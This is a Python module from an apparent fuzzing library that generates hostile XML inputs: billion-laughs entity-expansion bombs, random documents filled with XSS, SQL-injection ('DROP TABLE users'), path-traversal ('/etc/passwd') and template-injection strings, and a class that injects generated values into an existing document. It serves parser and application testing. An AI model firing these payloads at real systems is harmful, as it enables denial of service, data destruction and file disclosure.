"""XML payloads: entity-expansion bombs, malicious documents, value injection."""

import copy
import xml.etree.ElementTree as ET
from typing import Dict, Union
from xml.sax.saxutils import escape, quoteattr

from webinject.core.errors import GenerationError
from webinject.generators.base import BaseGenerator, DEFAULT_SIZE


class XmlBomb(BaseGenerator):
    """
    Billion-laughs documents.

    The DTD holds `levels` entities, each referencing the previous one
    `fanout` times, so the document is O(levels * fanout) characters while
    full expansion is fanout ** levels.  Entity names are seeded so repeated
    payloads are not byte-identical.
    """

    finite = False

    def __init__(self, levels: int = 10, fanout: int = 10):
        if levels < 2 or fanout < 2:
            raise GenerationError("levels and fanout must both be >= 2")
        self.name = "XML bomb (entity expansion)"
        self.levels = levels
        self.fanout = fanout

    def build(self, prefix: str = "lol", root: str = "lolz") -> str:
        lines = ['<?xml version="1.0"?>', f"<!DOCTYPE {root} ["]
        lines.append(f'  <!ENTITY {prefix}0 "{prefix}">')
        for i in range(1, self.levels):
            ref = f"&{prefix}{i - 1};" * self.fanout
            lines.append(f'  <!ENTITY {prefix}{i} "{ref}">')
        lines.append("]>")
        lines.append(f"<{root}>&{prefix}{self.levels - 1};</{root}>")
        return "\n".join(lines)

    def generate(self, size=DEFAULT_SIZE, seed=0):
        rnd = self.rng(seed)
        while True:
            yield self.build(prefix="e" + self.rand(rnd, 6), root="r" + self.rand(rnd, 4))


_TAGS = ["Person", "Order", "Item", "User", "Message", "Config", "Entry"]
_ATTRS = ["id", "name", "type", "ref", "lang"]
_TEXT_PAYLOADS = [
    "<script>alert(1)</script>",
    "' or '1'='1",
    "\"; DROP TABLE users; --",
    "../../../../etc/passwd",
    "${7*7}{{7*7}}",
    "&lt;!ENTITY",
    "]]>",
    "‮​﻿",
    "%00%0d%0a",
    "javascript:alert(1)",
]
# XML 1.0 forbids most control characters even when escaped
_TEXT_CHARS = ("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
               "!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~ \t\né中\U0001f44d")


class XmlMalicious(BaseGenerator):
    """Well-formed XML documents stuffed with hostile text and attribute values."""

    finite = False

    def __init__(self, max_children: int = 5, max_depth: int = 3):
        if max_children < 1 or max_depth < 1:
            raise GenerationError("max_children and max_depth must be >= 1")
        self.name = "Malicious XML"
        self.max_children = max_children
        self.max_depth = max_depth

    def _text(self, rnd, size) -> str:
        if rnd.random() < 0.5:
            return rnd.choice(_TEXT_PAYLOADS)
        n = rnd.randint(0, size)
        return "".join(rnd.choice(_TEXT_CHARS) for _ in range(n))

    def _element(self, rnd, size, depth) -> str:
        tag = rnd.choice(_TAGS)
        attrs = "".join(
            f" {a}={quoteattr(self._text(rnd, size))}"
            for a in rnd.sample(_ATTRS, rnd.randint(0, 2))
        )
        parts = []
        for _ in range(rnd.randint(0, self.max_children)):
            roll = rnd.random()
            if depth < self.max_depth and roll < 0.4:
                parts.append(self._element(rnd, size, depth + 1))
            elif roll < 0.6:
                cdata = self._text(rnd, size).replace("]]>", "]]&gt;")
                parts.append(f"<![CDATA[{cdata}]]>")
            elif roll < 0.7:
                comment = self._text(rnd, size).replace("-", "_")
                parts.append(f"<!--{comment}-->")
            else:
                parts.append(escape(self._text(rnd, size)))
        return f"<{tag}{attrs}>{''.join(parts)}</{tag}>"

    def generate(self, size=DEFAULT_SIZE, seed=0):
        rnd = self.rng(seed)
        while True:
            yield '<?xml version="1.0" encoding="UTF-8"?>' + self._element(rnd, size, 1)


class XmlInject(BaseGenerator):
    """
    Injects generated values into an existing document.

    `values` maps absolute element paths ("/Person/Age") to generators; every
    produced document is a copy of the original with the text of each path
    replaced by the next value of its generator.
    """

    def __init__(self, document: Union[str, ET.Element], values: Dict[str, BaseGenerator]):
        if not values:
            raise GenerationError("at least one path → generator mapping is required")
        self.name = "Malicious XML injection"
        self.root = ET.fromstring(document) if isinstance(document, str) else copy.deepcopy(document)
        self.values = dict(values)
        self.finite = all(g.finite for g in self.values.values())
        for p in self.values:
            if self._find(self.root, p) is None:
                raise GenerationError(f"path {p!r} matches no element")

    @staticmethod
    def _find(root: ET.Element, path: str):
        parts = [x for x in path.strip("/").split("/") if x]
        if not parts or parts[0] != root.tag:
            return None
        if len(parts) == 1:
            return root
        return root.find("/".join(parts[1:]))

    def generate(self, size=DEFAULT_SIZE, seed=0):
        iters = {p: g.generate(size, seed) for p, g in self.values.items()}
        while True:
            doc = copy.deepcopy(self.root)
            for p, it in iters.items():
                try:
                    value = next(it)
                except StopIteration:
                    return
                self._find(doc, p).text = value
            yield ET.tostring(doc, encoding="unicode")
